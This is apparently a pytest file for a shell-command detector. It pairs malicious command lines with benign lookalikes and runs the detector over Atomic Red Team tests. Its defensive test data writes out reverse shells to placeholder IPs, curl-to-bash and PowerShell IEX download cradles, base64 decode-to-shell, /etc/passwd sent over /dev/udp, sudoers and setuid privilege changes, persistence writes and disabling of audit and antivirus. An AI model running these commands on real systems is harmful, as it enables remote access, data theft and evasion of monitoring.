"""Rules: each flag with a true case and a benign lookalike, and a run over the Atomic Red Team tests."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest
import yaml

from shellwatch.cmdline import analyze
from shellwatch.cmdline.flags import RULES

TRUE_CASES = [
    ("network-redirection", "malicious", "bash", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
    ("network-redirection", "malicious", "bash", "exec 5<>/dev/tcp/10.0.0.1/4444"),
    ("network-redirection", "malicious", "bash", "cat /etc/passwd > /dev/udp/10.0.0.1/53"),
    ("network-redirection", "malicious", "bash", "bash -c 'sh -i >& /dev/tcp/1.1.1.1/1 0>&1'"),
    ("download-to-interpreter", "malicious", "bash", "curl -fsSL http://x/i.sh | sudo bash"),
    ("download-to-interpreter", "malicious", "bash", "wget -qO- http://x | tee f | python3"),
    ("download-to-interpreter", "malicious", "bash", 'bash -c "$(curl -fsSL http://x/i.sh)"'),
    (
        "download-to-interpreter",
        "malicious",
        "powershell",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
    ),
    (
        "download-to-interpreter",
        "malicious",
        "powershell",
        "(New-Object Net.WebClient).DownloadString('http://x') | iex",
    ),
    ("download-to-interpreter", "malicious", "powershell", "iwr http://x/a.ps1 | iex"),
    ("pipe-to-shell", "suspicious", "bash", "cat script.txt | sh"),
    ("pipe-to-shell", "suspicious", "bash", "echo id | /bin/bash -s"),
    ("history-tampering", "suspicious", "bash", "history -c"),
    ("history-tampering", "suspicious", "bash", "unset HISTFILE"),
    ("history-tampering", "suspicious", "bash", "export HISTFILE=/dev/null"),
    ("history-tampering", "suspicious", "bash", "HISTSIZE=0"),
    ("history-tampering", "suspicious", "bash", "set +o history"),
    ("history-tampering", "suspicious", "bash", "rm -f ~/.bash_history"),
    ("history-tampering", "suspicious", "bash", "cat /dev/null > ~/.bash_history"),
    ("history-tampering", "suspicious", "powershell", "Clear-History"),
    ("persistence-write", "suspicious", "bash", "echo '* * * * * /tmp/x' >> /etc/crontab"),
    ("persistence-write", "suspicious", "bash", "(crontab -l; echo '@reboot /tmp/x') | crontab -"),
    ("persistence-write", "suspicious", "bash", "cp evil.service /etc/systemd/system/evil.service"),
    ("persistence-write", "suspicious", "bash", "systemctl enable evil.service"),
    ("persistence-write", "suspicious", "bash", "echo 'nc -e /bin/sh x 1' >> ~/.bashrc"),
    ("persistence-write", "suspicious", "bash", "echo x | tee -a ~/.profile"),
    ("persistence-write", "suspicious", "bash", "mv key.pub ~/.ssh/authorized_keys"),
    ("persistence-write", "suspicious", "bash", "echo /tmp/x >> /etc/rc.local"),
    ("persistence-write", "suspicious", "cmd", "schtasks /create /tn x /tr c:\\x.exe /sc onlogon"),
    (
        "persistence-write",
        "suspicious",
        "cmd",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x',
    ),
    ("persistence-write", "suspicious", "cmd", "sc create evil binPath= c:\\x.exe"),
    ("privilege-change", "malicious", "bash", "chmod u+s /bin/bash"),
    ("privilege-change", "malicious", "bash", "chmod 4755 ./x"),
    ("privilege-change", "malicious", "bash", "setcap cap_setuid+ep /usr/bin/python3"),
    ("privilege-change", "malicious", "bash", "usermod -aG sudo bob"),
    ("privilege-change", "malicious", "bash", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
    ("privilege-change", "malicious", "cmd", "net localgroup administrators bob /add"),
    ("privilege-change", "suspicious", "bash", "sudo su -"),
    ("reverse-shell-tool", "malicious", "bash", "nc -e /bin/sh 1.2.3.4 4444"),
    ("reverse-shell-tool", "malicious", "bash", "ncat --exec /bin/bash 1.2.3.4 80"),
    ("reverse-shell-tool", "malicious", "bash", "socat tcp:1.2.3.4:80 exec:/bin/sh"),
    (
        "reverse-shell-tool",
        "malicious",
        "bash",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x 1 > /tmp/f",
    ),
    ("decode-to-shell", "malicious", "bash", "echo aWQ= | base64 -d | bash"),
    ("decode-to-shell", "malicious", "bash", "base64 --decode payload.b64 | sh"),
    (
        "decode-to-shell",
        "malicious",
        "powershell",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
    ),
    ("temp-path-exec", "suspicious", "bash", "/tmp/payload"),
    ("temp-path-exec", "suspicious", "bash", "bash /dev/shm/x.sh"),
    ("temp-path-exec", "suspicious", "bash", "chmod +x /tmp/x"),
    ("temp-path-exec", "suspicious", "cmd", "%TEMP%\\x.exe"),
    ("temp-path-exec", "suspicious", "powershell", "Start-Process $env:TEMP\\x.exe"),
    ("defense-evasion", "malicious", "bash", "setenforce 0"),
    ("defense-evasion", "malicious", "bash", "systemctl stop auditd"),
    ("defense-evasion", "malicious", "bash", "auditctl -D"),
    ("defense-evasion", "malicious", "powershell", "Set-MpPreference -DisableRealtimeMonitoring $true"),
]

LOOKALIKES = [
    ("network-redirection", "bash", "grep '/dev/tcp' /var/log/audit.log"),
    ("network-redirection", "bash", 'echo "/dev/tcp/1.2.3.4/80"'),
    ("download-to-interpreter", "bash", "curl -o f http://x/install.sh"),
    ("download-to-interpreter", "bash", "curl -s http://x | grep bash"),
    ("download-to-interpreter", "powershell", "iwr http://x -OutFile f.ps1"),
    ("pipe-to-shell", "bash", "cat script.sh | grep sh"),
    ("pipe-to-shell", "bash", "sh ./configure"),
    ("history-tampering", "bash", "history | tail -5"),
    ("history-tampering", "bash", "cat ~/.bash_history"),
    ("history-tampering", "bash", "echo $HISTFILE"),
    ("persistence-write", "bash", "cat ~/.bashrc"),
    ("persistence-write", "bash", "grep x /etc/crontab"),
    ("persistence-write", "bash", "crontab -l"),
    ("persistence-write", "bash", "systemctl status evil.service"),
    ("persistence-write", "bash", "cp ~/.bashrc /backup/bashrc"),
    ("persistence-write", "bash", "cat ~/.ssh/authorized_keys"),
    ("persistence-write", "cmd", "schtasks /query /fo list"),
    ("persistence-write", "cmd", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ("privilege-change", "bash", "chmod 755 script.sh"),
    ("privilege-change", "bash", "cat /etc/sudoers"),
    ("privilege-change", "cmd", "net localgroup administrators"),
    ("reverse-shell-tool", "bash", "nc -zv host 22"),
    ("reverse-shell-tool", "bash", "socat tcp-listen:80 tcp:10.0.0.1:80"),
    ("decode-to-shell", "bash", "echo aWQ= | base64 -d"),
    ("decode-to-shell", "bash", "base64 file | sh -c 'cat > out'"),
    ("temp-path-exec", "bash", "ls /tmp"),
    ("temp-path-exec", "bash", "cat /tmp/log.txt"),
    ("temp-path-exec", "cmd", "dir %TEMP%"),
    ("defense-evasion", "bash", "setenforce 1"),
    ("defense-evasion", "bash", "systemctl status auditd"),
    ("defense-evasion", "bash", "auditctl -l"),
    ("defense-evasion", "powershell", "Get-MpPreference"),
]


def test_every_kind_has_cases() -> None:
    kinds = {rule.kind for rule in RULES}
    assert kinds == {kind for kind, *_ in TRUE_CASES}
    assert kinds - {"pipe-to-shell"} <= {kind for kind, *_ in LOOKALIKES} | {"pipe-to-shell"}


@pytest.mark.parametrize(("kind", "severity", "shell", "line"), TRUE_CASES)
def test_flag_true_case(kind: str, severity: str, shell: str, line: str) -> None:
    analysis = analyze(line, shell)
    found = [f for f in analysis.findings if f.kind == kind]
    assert found, f"{kind} not found in {line!r}: {analysis.findings}"
    assert severity in {f.severity for f in found}
    assert analysis.verdict in {severity, "malicious"}
    for finding in found:
        assert analysis.verdicts[finding.segment] in {finding.severity, "malicious"}


@pytest.mark.parametrize(("kind", "shell", "line"), LOOKALIKES)
def test_flag_benign_lookalike(kind: str, shell: str, line: str) -> None:
    analysis = analyze(line, shell)
    assert kind not in {f.kind for f in analysis.findings}, analysis.findings


@pytest.mark.parametrize("line", ["sudo -l", "su - bob", "sudo apt-get update"])
def test_sudo_alone_is_at_most_suspicious(line: str) -> None:
    assert analyze(line, "bash").verdict in {"benign", "suspicious"}


def test_quoted_dev_tcp_is_benign() -> None:
    assert analyze("grep '/dev/tcp' /var/log/x", "bash").verdict == "benign"


def test_flag_inside_substitution_points_at_nested_segment() -> None:
    analysis = analyze("echo $(echo aWQ= | base64 -d | sh)", "bash")
    (finding,) = [f for f in analysis.findings if f.kind == "decode-to-shell"]
    assert analysis.segments[finding.segment].depth == 1


EXECUTORS = {"sh": "bash", "bash": "bash", "command_prompt": "cmd", "powershell": "powershell"}


def atomic_commands(corpus: Path) -> list[tuple[str, str, str | None]]:
    """(test name, command, shell) for every Atomic Red Team test with an executor command."""
    commands: list[tuple[str, str, str | None]] = []
    for path in sorted((corpus / "atomic").glob("*.yaml")):
        document = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for test in document.get("atomic_tests") or []:
            executor = test.get("executor") or {}
            command = executor.get("command")
            if isinstance(command, str) and command.strip():
                shell = EXECUTORS.get(str(executor.get("name")))
                commands.append((str(test.get("name")), command, shell))
    return commands


def test_atomic_red_team_commands(corpus: Path) -> None:
    if not (corpus / "atomic").is_dir():
        pytest.skip("no Atomic Red Team tests in the corpus")
    commands = atomic_commands(corpus)
    assert commands
    verdicts: Counter[str] = Counter()
    kinds: Counter[str] = Counter()
    for name, command, shell in commands:
        analysis = analyze(command, shell)
        guessed = analyze(command)
        assert len(analysis.verdicts) == len(analysis.segments), name
        assert guessed.verdict in {"benign", "suspicious", "malicious"}, name
        verdicts[analysis.verdict] += 1
        kinds.update({f.kind for f in analysis.findings})
    print(f"\natomic commands: {len(commands)}")
    for verdict in ("benign", "suspicious", "malicious"):
        print(f"  {verdict}: {verdicts[verdict]}")
    for kind, count in sorted(kinds.items()):
        print(f"  finding {kind}: {count}")
